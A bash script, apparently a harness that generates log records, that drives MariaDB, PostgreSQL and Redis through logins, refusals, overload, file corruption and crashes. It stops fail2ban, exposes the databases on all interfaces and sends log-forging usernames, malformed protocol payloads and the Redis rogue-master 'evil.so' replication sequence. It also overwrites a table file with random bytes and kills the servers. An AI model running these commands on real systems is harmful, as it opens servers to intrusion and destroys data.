#!/bin/bash
# Drives mariadb, postgresql and redis through logins, refusals, errors, a full disk and crashes.
set -u
systemctl stop fail2ban
sed -i "s/^#*bind-address.*/bind-address = 0.0.0.0/" /etc/mysql/mariadb.conf.d/50-server.cnf
printf '[mariadb]\nlog_warnings=4\nskip-name-resolve=0\n' >/etc/mysql/mariadb.conf.d/99-record.cnf
systemctl restart mariadb
mysql -e "CREATE DATABASE IF NOT EXISTS shop; CREATE USER IF NOT EXISTS 'shop'@'%' IDENTIFIED BY 'correct-horse'; GRANT ALL ON shop.* TO 'shop'@'%'"
mysql -h 192.0.2.10 -u shop -pcorrect-horse -e 'SELECT 1' shop; mysql -h 192.0.2.10 -u shop -pwrong -e 'SELECT 1'; mysql -h 192.0.2.10 -u root -pwrong -e 'SELECT 1'; mysql -h 192.0.2.10 -u "x' from y" -pwrong -e 'SELECT 1'
mysql -h 192.0.2.10 -u shop -pcorrect-horse -e 'SET SESSION wait_timeout=1; SELECT SLEEP(2)' shop
printf 'GET / HTTP/1.0\r\n\r\n' | nc -s 203.0.113.66 -w1 192.0.2.10 3306; nc -s 203.0.113.66 -w1 -z 192.0.2.10 3306
mysql -e 'CREATE TABLE IF NOT EXISTS shop.t (a INT) ENGINE=MyISAM; CREATE TABLE IF NOT EXISTS shop.u (a INT PRIMARY KEY) ENGINE=InnoDB; KILL 999; FLUSH LOGS; SET GLOBAL max_connections=11'
for n in $(seq 15); do mysql -h 192.0.2.10 -u shop -pcorrect-horse -e 'SELECT SLEEP(3)' & done; wait
(sleep 30 | mysql -h 192.0.2.10 -u shop -pcorrect-horse & sleep 1; pkill -KILL -x mysql -n)
head -c 3000 /dev/urandom >/var/lib/mysql/shop/t.MYI; mysql -e 'SELECT * FROM shop.t; CHECK TABLE shop.t; REPAIR TABLE shop.t'
pkill -KILL -x mariadbd; sleep 4; pkill -SEGV -x mariadbd; sleep 5
echo 'nonsense=1' >>/etc/mysql/mariadb.conf.d/99-record.cnf; systemctl restart mariadb; sed -i '$d' /etc/mysql/mariadb.conf.d/99-record.cnf; systemctl reset-failed mariadb; systemctl restart mariadb
mysqladmin shutdown; systemctl start mariadb

data=/etc/postgresql/15/main
cat >$data/conf.d/record.conf <<'C'
listen_addresses = '*'
log_destination = 'stderr,syslog'
log_connections = on
log_disconnections = on
log_checkpoints = on
log_lock_waits = on
deadlock_timeout = 500ms
log_autovacuum_min_duration = 0
log_temp_files = 0
log_min_duration_statement = 200ms
statement_timeout = 3s
max_connections = 12
checkpoint_timeout = 30s
C
grep -q '203.0.113' $data/pg_hba.conf || echo 'host shop shop 192.0.2.0/24 scram-sha-256' >>$data/pg_hba.conf
systemctl restart postgresql; sleep 2
su postgres -c "psql -c \"CREATE USER shop PASSWORD 'correct-horse'\" -c 'CREATE DATABASE shop OWNER shop'"
p() { PGPASSWORD=${password:-correct-horse} PGCONNECT_TIMEOUT=3 psql "host=192.0.2.10 user=shop dbname=shop sslmode=${ssl:-prefer}" "$@"; }
export PGHOSTADDR=192.0.2.10
p -c 'CREATE TABLE t (a int primary key)' -c 'INSERT INTO t SELECT generate_series(1,50000)' -c 'SELECT pg_sleep(0.3)'; ssl=disable p -c 'SELECT 1'
password=wrong p -c 'SELECT 1'; psql "host=192.0.2.10 user=root dbname=shop" -w -c 'SELECT 1'; psql "host=192.0.2.10 user=postgres dbname=postgres" -w -c 'SELECT 1'; PGPASSWORD=x psql "host=192.0.2.10 user=shop dbname=nosuch" -c 'SELECT 1'; PGPASSWORD=x psql "host=192.0.2.10 dbname=shop" -U 'x" for user "y' -c 'SELECT 1'
p -c 'SELECT nonsense' -c 'INSERT INTO t VALUES (1)' -c 'SELECT pg_sleep(5)' -c 'SELECT 1/0' -c 'DROP TABLE nosuch'; p -c 'DELETE FROM t' -c 'VACUUM t' -c "SELECT 'a
b' FROM nosuch"
printf 'GET / HTTP/1.0\r\n\r\n' | nc -s 203.0.113.66 -w1 192.0.2.10 5432; nc -s 203.0.113.66 -w1 -z 192.0.2.10 5432; printf '\0\0\0\x08\x04\xd2\x16\x2fx' | nc -s 203.0.113.66 -w1 192.0.2.10 5432
(p -c 'BEGIN; UPDATE t SET a=a WHERE a=1; SELECT pg_sleep(2)' & p -c 'BEGIN; LOCK TABLE t; SELECT pg_sleep(1); COMMIT'; wait)
(for n in $(seq 16); do p -c 'SELECT pg_sleep(2)' & done; wait)
(p -c 'SELECT pg_sleep(2)' & sleep 0.5; pkill -KILL -x psql -n; wait); su postgres -c 'psql -c CHECKPOINT -c "SELECT pg_reload_conf(), pg_switch_wal()"'; su postgres -c "psql -c \"ALTER SYSTEM SET max_connections='13'\" -c 'SELECT pg_reload_conf()'"
echo "nonsense = 1" >>$data/conf.d/record.conf; su postgres -c 'psql -c "SELECT pg_reload_conf()"'; sed -i '$d' $data/conf.d/record.conf
pkill -SEGV -f 'postgres: 15/main: walwriter' || pkill -SEGV -f 'walwriter'; sleep 4; sleep 31; pkill -KILL -o -x postgres; sleep 2; systemctl restart postgresql; sleep 2; systemctl restart postgresql; systemctl stop postgresql; systemctl start postgresql

printf 'syslog-enabled yes\nsyslog-ident redis\nloglevel verbose\nbind 127.0.0.1 192.0.2.10\nprotected-mode no\nsave 2 1\nmaxclients 5\nappendonly no\n' >>/etc/redis/redis.conf
systemctl restart redis-server; sleep 1
r() { redis-cli -h 192.0.2.10 "$@"; }
r set a 1; r get a; sleep 3; r save; r bgsave; r bgrewriteaof; r config set requirepass secret; r get a; r -a wrong get a; r -a secret config set requirepass ''; r nosuch; r debug sleep 0
printf 'GET / HTTP/1.0\r\nHost: x\r\n\r\n' | nc -s 203.0.113.66 -w1 192.0.2.10 6379; printf '*1000000000\r\n' | nc -s 203.0.113.66 -w1 192.0.2.10 6379; printf '*1\r\n$-5\r\n' | nc -s 203.0.113.66 -w1 192.0.2.10 6379; for n in $(seq 8); do (sleep 1 | timeout 3 nc 192.0.2.10 6379) & done; wait
r config set dir /root; r config set dbfilename evil.so; r slaveof 203.0.113.5 6379; sleep 2; r slaveof no one; chmod 000 /var/lib/redis; r set b 2; r bgsave; sleep 3; chmod 750 /var/lib/redis
pkill -SEGV -x redis-server; sleep 2; pkill -KILL -x redis-server; sleep 2; echo nonsense >>/etc/redis/redis.conf; systemctl restart redis-server; sed -i '$d' /etc/redis/redis.conf; systemctl reset-failed redis-server; systemctl restart redis-server; systemctl stop redis-server; systemctl start redis-server
